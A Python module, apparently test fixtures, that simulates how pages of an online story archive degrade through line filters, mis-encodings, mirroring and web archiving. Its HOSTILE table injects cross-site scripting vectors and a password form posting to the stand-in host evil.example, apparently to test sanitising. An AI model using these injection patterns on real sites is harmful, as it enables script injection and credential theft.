"""What time, crawlers and a careless line filter did to the pages. Everything here is deterministic."""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass

from furniture import HOST, LABELS, NAME, RIGHTS, SUPPORT
from stories import Block, Work

ELISIONS = re.compile(r"(?<![\w’])’(?=(?:[Tt]was|[Tt]is|[Tt]il|em|[Cc]ause|[Tt]would)\b)")
LEAST_WORDS = 2
MOSTLY = 0.6
MORE_LABELS = LABELS | {"note": "Author's Note"}


@dataclass(frozen=True, slots=True)
class Lost:
    """A block that a copy no longer has: ``block`` is its number in the chapter, from 0."""

    block: int
    type: str
    text: str
    why: str


def extracted(work: Work, *, footer: bool) -> tuple[str, list[Lost]]:
    """Return the text that an extractor and its line filter left of a one-chapter work, and what they deleted.

    The filter drops every line of fewer than two words, of capitals or of digits; slanting is gone before it.
    """
    blocks = work.chapters[0].blocks
    lost = [
        Lost(number, block.type, block.text, "line-filter")
        for number, block in enumerate(blocks)
        if block.type != "lines" and dropped(shown(block))
    ]
    paragraphs = [head(work), *(shown(block) for block in blocks), *([tail()] if footer else [])]
    lines = "\n\n".join(paragraphs).split("\n")
    return "\n".join(line for line in lines if not line or not dropped(line)) + "\n", lost


def shown(block: Block) -> str:
    return "***" if block.type == "scene_break" else block.text


def dropped(line: str) -> bool:
    """Say whether the filter would delete this line."""
    letters = [letter for letter in line if letter.isalpha()]
    capitals = sum(1 for letter in letters if letter.isupper())
    return len(line.split()) < LEAST_WORDS or capitals > MOSTLY * len(letters)


def head(work: Work) -> str:
    """Return what the extractor saw above the story."""
    placed = f"\nPart {work.series[1]} of {work.series[0]}" if work.series else ""
    facts = "\n".join(f"{label}: {work.head[name]}" for name, label in MORE_LABELS.items() if name in work.head)
    return f"{NAME}\n\n{work.title}\nBy {' and '.join(work.authors)}{placed}\n\n{facts}"


def tail() -> str:
    links = "Read reviews | Write a review\nSend feedback to the author | All stories by this author\nPrint Version | Plain Version"
    return f"{links}\n\n{SUPPORT}\n\nHome | Site Map | Write to Maud\n\n{RIGHTS}"


def wrong_way_elisions(text: str) -> str:
    """Turn the apostrophe of ’twas and ’em round, as word processors do."""
    return ELISIONS.sub("‘", text)


def wrong_way_closers(text: str) -> str:
    """Turn the closing quote after a dash round, as word processors do."""
    return text.replace("—”", "—“")


def mac_latin2(text: str) -> str:
    """Return Windows text as a Macintosh set to Central European saw it and saved it."""
    return text.encode("cp1252").decode("mac_latin2")


def encoded_twice(text: str) -> str:
    """Return UTF-8 text that somebody took for Windows text and encoded once more."""
    return "".join(chr(byte) if byte in UNDEFINED else bytes([byte]).decode("cp1252") for byte in text.encode("utf-8"))


UNDEFINED = frozenset(
    {0x81, 0x8D, 0x8F, 0x90, 0x9D}
)  # the five bytes that windows-1252 leaves to the control characters


def without(page: str, beginnings: tuple[str, ...]) -> str:
    """Return a page from which the lines with these beginnings (after the tag) are gone without a trace."""
    return "\n".join(
        line for line in page.split("\n") if not re.sub("<[^>]+>", "", line).startswith(beginnings or ("\0",))
    )


def mirrored(page: str, address: str) -> str:
    """Return a page with the comments that a mirroring tool writes into it."""
    note = f"<!-- Mirrored from {HOST}/{address} by HTTrack Website Copier/3.x [XR&CO'2005], Sat, 10 Mar 2007 21:14:07 GMT -->"
    return page.replace("<head>", f"<head>\n{note}", 1).replace("<HEAD>", f"<HEAD>\n{note}", 1)


def archived(page: str, stamp: str) -> str:
    """Return a page as a web archive serves it: rewritten links, a script in the head and a toolbar in the body."""
    prefix = f"/web/{stamp}/http://{HOST}/"
    page = re.sub(r'(href|HREF)="(?!https?:|javascript:|/)', rf'\1="{prefix}', page)
    page = re.sub(r"(<head>)", r'\1<script src="/_static/js/bundle.js" type="text/javascript"></script>', page, count=1)
    toolbar = """<!-- BEGIN WAYBACK TOOLBAR INSERT -->
<div id="wm-ipp-base" lang="en"><div id="wm-ipp"><a href="/web/">Wayback Machine</a> 7 captures
<div>02 Nov 2005 - 02 Apr 2007</div><a href="#">About this capture</a></div></div>
<!-- END WAYBACK TOOLBAR INSERT -->"""
    page = re.sub(r"(<body[^>]*>)", lambda found: f"{found[0]}\n{toolbar}", page, count=1, flags=re.IGNORECASE)
    return page + f"<!--\n     FILE ARCHIVED ON {stamp} AND RETRIEVED FROM THE\n     INTERNET ARCHIVE\n-->\n"


def hostile(page: str) -> str:
    """Return a page that somebody got at: scripts, handlers, frames and links that run. Its words are still there."""
    for before, after in HOSTILE.items():
        assert before in page, before
        page = page.replace(before, after, 1)
    return page


HOSTILE = {
    "<head>": '<head><meta http-equiv="refresh" content="0; url=javascript:window.storykeepRan=1"><base href="http://evil.example/">'
    "<script>window.storykeepRan=1</script>",
    "<body>": '<body onload="window.storykeepRan=1" style="background:url(javascript:window.storykeepRan=1)">',
    "<p>She bought the bun.": '<script>document.write("<plaintext>")</script><p onmouseover="window.storykeepRan=1">'
    'She bought the <a href="javascript:window.storykeepRan=1">bun</a>.',
    "<p>It is not an easy thing": '<iframe src="javascript:parent.storykeepRan=1" width="1" height="1"></iframe>'
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">It is not an easy thing',
    "<p>By noon": '<img src="x" onerror="window.storykeepRan=1"><svg onload="window.storykeepRan=1"></svg><p>By noon',
    "<p>At one o’clock": '<object data="http://evil.example/x.swf"></object><form action="http://evil.example/login">'
    '<input name="password" type="password"></form><p>At one o’clock',
    "<p>There is a Corbel": '<p hx-get="http://evil.example/" hx-trigger="load">There is a Corbel',
    "<p>Tam thought about that.": '<math><a xlink:href="javascript:window.storykeepRan=1"></a></math><p>Tam thought about that.',
    "&lt;&lt;run!&gt;&gt;": "<<run!>>",
    "&lt;g&gt;": "<g>",
}


def broken() -> bytes:
    """Return the first bytes of a compressed page, and after them nothing that was ever compressed."""
    noise = b"".join(hashlib.sha256(bytes([turn])).digest() for turn in range(48))
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + noise
